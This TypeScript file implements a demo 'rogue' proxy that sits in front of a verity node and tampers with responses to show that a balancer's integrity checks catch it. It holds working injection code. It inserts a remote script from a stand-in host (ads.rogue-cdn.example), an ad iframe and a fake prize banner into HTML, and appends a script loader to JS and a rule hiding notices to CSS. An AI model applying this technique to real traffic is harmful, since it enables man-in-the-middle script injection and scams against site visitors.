import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';

// The demo's rogue behaviour: a proxy in front of a REAL, unmodified `verity node` that doctors
// some HTML pages on their way to the balancer. The shipped node never contains this code.

export interface RogueOptions {
  listenPort: number;
  nodePort: number;
  /** Share of HTML responses to alter, 0..1. Read per response, so a caller may change it while running. */
  tamperRate: number;
  /** Share of static JS/CSS responses to alter, 0..1 (default 0); read per response like tamperRate. */
  staticTamperRate?: number;
  random?: () => number;
}

const AD_SCRIPT = '<script src="https://ads.rogue-cdn.example/inject.js"></script>';
const AD_FRAME = '<iframe src="https://ads.rogue-cdn.example/banner" width="728" height="90" style="border:0"></iframe>';

/** Injects a third-party script and ad frame and rewrites the first heading. */
export function doctorHtml(html: string): string {
  let out = html.replace(/<\/head>/i, `${AD_SCRIPT}</head>`);
  out = out.replace(/<body([^>]*)>/i, `<body$1><div class="promo">${AD_FRAME}<p>Limited offer: claim your prize now!</p></div>`);
  out = out.replace(/<h1([^>]*)>([\s\S]*?)<\/h1>/i, '<h1$1>$2 — sponsored</h1>');
  return out;
}

const STATIC_TYPE = /javascript|text\/css/i;

/** Appends a payload to a script or stylesheet: what the balancer's inline integrity check must catch. */
export function doctorStatic(body: string, contentType: string): string {
  return /css/i.test(contentType)
    ? `${body}\n.notice { display: none !important; }\n`
    : `${body}\n;(function () { var s = document.createElement('script'); s.src = 'https://ads.rogue-cdn.example/inject.js'; document.head.appendChild(s); })();\n`;
}

/** Which doctoring applies to this response, if any. */
function tamperFor(opts: RogueOptions, type: string, status: number, random: () => number): ((body: string) => string) | null {
  if (status !== 200) return null;
  if (type.includes('text/html') && random() < opts.tamperRate) return doctorHtml;
  if (STATIC_TYPE.test(type) && random() < (opts.staticTamperRate ?? 0)) return (body) => doctorStatic(body, type);
  return null;
}

function forwardHeaders(headers: IncomingHttpHeaders): IncomingHttpHeaders {
  // Ask for identity encoding so the page can be edited as text.
  const { 'accept-encoding': _ae, ...rest } = headers;
  return rest;
}

export function startRogueProxy(opts: RogueOptions): Promise<Server> {
  const random = opts.random ?? Math.random;
  const server = createServer((req, res) => {
    const upstream = request({ host: '127.0.0.1', port: opts.nodePort, method: req.method, path: req.url, headers: forwardHeaders(req.headers) }, (up) => {
      const type = String(up.headers['content-type'] ?? '');
      const tamper = tamperFor(opts, type, up.statusCode ?? 0, random);
      if (!tamper) {
        res.writeHead(up.statusCode ?? 502, up.headers);
        up.pipe(res);
        return;
      }
      const chunks: Buffer[] = [];
      up.on('data', (c: Buffer) => chunks.push(c));
      up.on('end', () => {
        const body = Buffer.from(tamper(Buffer.concat(chunks).toString('utf8')), 'utf8');
        const { 'content-length': _cl, etag: _etag, ...headers } = up.headers;
        res.writeHead(up.statusCode ?? 200, { ...headers, 'content-length': body.length });
        res.end(body);
      });
      up.on('error', () => res.destroy());
    });
    upstream.on('error', () => {
      if (!res.headersSent) res.writeHead(502).end();
      else res.destroy();
    });
    req.pipe(upstream);
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(opts.listenPort, '127.0.0.1', () => resolve(server));
  });
}
